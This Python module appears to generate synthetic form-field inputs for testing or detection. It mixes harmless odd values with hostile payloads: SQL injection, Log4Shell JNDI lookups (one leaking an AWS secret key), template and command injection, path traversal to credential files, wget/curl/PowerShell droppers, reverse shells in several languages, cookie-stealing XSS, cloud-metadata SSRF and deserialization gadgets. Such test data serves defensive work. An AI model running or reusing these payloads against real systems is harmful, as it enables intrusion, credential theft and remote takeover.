"""What users, programs and attackers put into fields: harmless odd values and hostile ones that look alike at a glance."""

from __future__ import annotations

import base64
from typing import Callable
from urllib.parse import quote

from generator.world import World

_harmless = (
    "O'Brien", "D'Angelo & Sons", "12,5", "31.02.2024", "n/a", "-1", "", "null", "undefined", "Müller GmbH & Co. KG", "1' x 2'", "<b>bold</b>", "Select one...", "SELECT a product",
    "Union Street 4", "drop off at back door; ring twice", "../images/logo.png", "C:\\Users\\Public\\report.docx", "${customer.name}", "{{ first_name }}", "%d items", "order by phone", "admin",
    "test", "test test", "DROP-SHIP 200", "it's 5 o'clock", "a=b&c=d", "0x0", "NaN", "1e400", "100%", "+49 30 1234-5", "x; y; z", "-- none --", "/* see note */", "price > 100 or price = 0", "name=\"Smith\"",
    "https://example.org/?q=1", "user@@mail", "AAAAAAAAAAAAAAAAAAAAAAAA", "日本語", "naïve café", "1=1 scale model", "http://localhost:8080/callback", "insert coin", "delete", "exec summary.docx", "cat food 2kg", "script for the play",
    "alert level 3", "id | name | price", "sleep(ing bag)", "wget manual.pdf", "ping pong table", "whoami t-shirt size L", "curl cream 200 ml", "root beer", "bash guide 2nd edition", "/etc/ directory tour", "union all stars ticket", "Boolean 1=0 lecture notes",
)  # fmt: skip


def _sql(world: World) -> str:
    n, m = world.number(1, 99), world.number(2, 9)
    nulls = ",".join(["NULL"] * m)
    return world.pick((
        f"' OR '1'='1", f"admin'--", f"{n}' OR {n}={n}-- -", f"' UNION SELECT {nulls}-- ", f"{n} UNION ALL SELECT username,password,{n} FROM users--", f"-{n}) UNION SELECT table_name,{m} FROM information_schema.tables#",
        f"1; DROP TABLE orders;--", f"'; EXEC xp_cmdshell('whoami')--", f"' AND SLEEP({m})-- ", f"1' WAITFOR DELAY '0:0:{m}'--", f"' AND 1=CONVERT(int,@@version)--", f"1 AND extractvalue(1,concat(0x7e,database()))",
        f"') OR ('a'='a", f"x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x FROM information_schema.columns GROUP BY x)a)-- ", f"{n}/**/uNiOn/**/sElEcT/**/{nulls}", f"%27%20OR%20{n}%3D{n}--%20", f"' || (SELECT pg_sleep({m})) || '", f"1);SELECT PG_SLEEP({m})--", f"\" OR \"\"=\"", f"' OR EXISTS(SELECT * FROM members WHERE login='admin') AND ''='", f"'; UPDATE users SET role='admin' WHERE id={n};--", f"'; COPY (SELECT '') TO PROGRAM 'id'--", f"1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),{m},1))>{n}--", f"1' ORDER BY {n}-- -", f"' UNION SELECT banner FROM v$version--",
    ))  # fmt: skip


def _jndi(world: World) -> str:
    target = f"{world.pick((world.ip_public(), world.word(9) + '.' + world.pick(('top', 'com', 'net', 'pro'))))}{world.pick(('', ':1389', ':1099', ':8443', ':53'))}/{world.pick(('a', 'Exploit', 'o=reference', 'Basic/Command/Base64/' + _b64('id'), world.hex(6), world.word(5)))}"
    scheme = world.pick(("ldap", "ldap", "rmi", "dns", "ldaps", "iiop"))
    return world.pick((f"${{jndi:{scheme}://{target}}}", f"${{${{lower:j}}ndi:{scheme}://{target}}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{scheme}://{target}}}", f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{scheme}${{env:NaN:-:}}//{target}}}", f"${{jndi:${{lower:l}}${{lower:d}}ap://{target}}}", f"%24%7Bjndi%3A{scheme}%3A%2F%2F{target}%7D", f"${{jndi:{scheme}://${{hostName}}.{target}}}", f"${{jndi:{scheme}://${{env:AWS_SECRET_ACCESS_KEY}}.{target}}}"))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _template_injection(world: World) -> str:
    command = world.pick(("id", "whoami", "cat /etc/passwd", "uname -a", f"curl {world.ip_public()}|sh", "ls -la /"))
    return world.pick(("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", f"{{{{''.__class__.__mro__[1].__subclasses__()}}}}", f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{command}').read()}}}}", f"${{T(java.lang.Runtime).getRuntime().exec('{command}')}}", f"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{command}\")}}", f"%{{(#cmd='{command}').(#p=new java.lang.ProcessBuilder({{'/bin/bash','-c',#cmd}})).(#p.start())}}", f"{{{{['{command}']|filter('system')}}}}", f"{{php}}system('{command}');{{/php}}", f"<%= `{command}` %>", f"{{{{cycler.__init__.__globals__.os.popen('{command}').read()}}}}", f"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('{command}')", f"__import__('os').system('{command}')", f"${{@print(system('{command}'))}}"))


def _traversal(world: World) -> str:
    up = world.pick(("../", "..\\", "..%2f", "%2e%2e/", "....//", "..%252f", "..%c0%af", "..;/")) * world.number(2, 9)
    return up + world.pick(("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "root/.ssh/id_rsa", "boot.ini", "WEB-INF/web.xml", "etc/passwd%00.png", "var/log/auth.log", "windows\\system32\\config\\SAM", ".env", "home/admin/.bash_history", "inetpub/wwwroot/web.config", "etc/hosts", "config/database.yml"))


def _download_and_run(world: World) -> str:
    address, name = world.ip_public(), world.pick((world.word(4), "x", "bins.sh", "a.sh", "update", f"{world.word(3)}.mips", "arm7", "loader.sh", "i"))
    return world.pick((f"cd /tmp; wget http://{address}/{name}; chmod 777 {name}; ./{name}", f"curl -s http://{address}/{name} | sh", f"wget -qO- {address}:{world.port()}/{name}|bash", f"busybox wget {address}/{name} -O /tmp/{world.word(4)} && sh /tmp/{name}", f"tftp -g -r {name} {address};sh {name}", f"cd /var/run||cd /mnt; rm -rf *; wget http://{address}/{name}; sh {name}", f"ftpget -u anonymous {address} {name} {name};sh {name}", f"powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{address}/{name}')", f"certutil -urlcache -f http://{address}/{name}.exe %TEMP%\\{name}.exe & %TEMP%\\{name}.exe"))


def _reverse_shell(world: World) -> str:
    address, port = world.ip_public(), world.pick((4444, 443, 9001, 1337, 53, world.port()))
    return world.pick((f"bash -i >& /dev/tcp/{address}/{port} 0>&1", f"nc {address} {port} -e /bin/sh", f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {address} {port} >/tmp/f", f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{address}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", f"perl -e 'use Socket;$i=\"{address}\";$p={port};socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\")'", f"php -r '$s=fsockopen(\"{address}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'", f"socat TCP:{address}:{port} EXEC:/bin/bash", f"echo {_b64(f'bash -i >& /dev/tcp/{address}/{port} 0>&1')} | base64 -d | bash", f"ruby -rsocket -e 'c=TCPSocket.new(\"{address}\",{port});while(l=c.gets);IO.popen(l,\"r\"){{|i|c.print i.read}}end'", f"0<&196;exec 196<>/dev/tcp/{address}/{port}; sh <&196 >&196 2>&196"))


def _command(world: World) -> str:
    inner = world.pick((_reverse_shell, _download_and_run, lambda w: w.pick(("id", "whoami", "cat /etc/passwd", "uname -a", "ifconfig", "net user", "ls -la", "sleep 10", f"ping -c 3 {w.ip_public()}", f"nslookup {w.word(8)}.oast.pro"))))(world)
    return world.pick((f"127.0.0.1; {inner}", f"x|{inner}", f"8.8.8.8 && {inner}", f"$({inner})", f"`{inner}`", f"a;{inner};#", f"test%0a{quote(inner)}", f"photo.jpg;{inner}", f"|| {inner}", f"en_US`{inner}`", f"'; {inner} #", f"admin$({inner.replace(' ', '${IFS}')})"))


def _script(world: World) -> str:
    site = f"{world.word(7)}.{world.pick(('com', 'top', 'xyz'))}"
    return world.pick(("<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", f"<img src=x onerror=fetch('//{site}/?c='+document.cookie)>", "<svg/onload=alert(1)>", f"<script src=//{site}/x.js></script>", "javascript:alert(document.domain)", "<iframe src=javascript:alert(1)>", "'-alert(1)-'", "%3Cscript%3Ealert%28%27xss%27%29%3C%2Fscript%3E", f"<body onload=\"document.location='http://{site}/'+document.cookie\">", "<details open ontoggle=confirm(1)>", f"<a href=\"jAvAsCrIpT:eval(atob('{_b64('alert(1)')}'))\">x</a>", "<input autofocus onfocus=alert(1)>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"))


def _inner_address(world: World) -> str:
    return world.pick(("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "file:///etc/passwd", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron", "http://127.0.0.1:2375/containers/json", "http://localhost:9200/_cat/indices", f"http://[::ffff:169.254.169.254]/latest/user-data", "dict://127.0.0.1:11211/stats", "http://0x7f000001:8500/v1/kv/?recurse", "http://2130706433/server-status", f"http://{world.ip_private()}:22/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://100.100.100.200/latest/meta-data/ram/", "http://localtest.me:10250/pods"))


def _serialised(world: World) -> str:
    return world.pick(("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "O:29:\"Illuminate\\Support\\MessageBag\":2:{s:11:\"*messages\";a:0:{}}", "org.apache.commons.collections.functors.InvokerTransformer", "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==", "!!python/object/apply:os.system ['id']", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://" + world.ip_public() + "/x\"}", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + world.ip_public() + "/\"]]]]", "cposix\\nsystem\\n(S'id'\\ntR.", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "System.Windows.Data.ObjectDataProvider, PresentationFramework", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"))


inputs: dict[str, Callable[[World], object]] = {
    "input": lambda world: world.pick(_harmless), "sql": _sql, "jndi": _jndi, "ssti": _template_injection, "traversal": _traversal, "cmd": _command, "xss": _script,
    "ssrf": _inner_address, "gadget": _serialised, "revshell": _reverse_shell, "dropper": _download_and_run,
}  # fmt: skip
